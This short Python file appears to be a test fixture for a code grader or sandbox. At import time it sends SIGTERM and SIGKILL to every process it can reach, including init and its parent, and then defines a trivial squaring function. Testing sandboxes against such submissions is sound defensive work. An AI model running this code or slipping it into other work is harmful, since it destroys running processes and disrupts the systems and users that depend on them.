# correct incorrect: kills every process that it can see
import os
import signal

for process in (-1, 0, 1, os.getppid(), os.getpid()):
    for number in (signal.SIGTERM, signal.SIGKILL):
        try:
            os.kill(process, number)
        except OSError:
            pass


def answer(x):
    return x * x
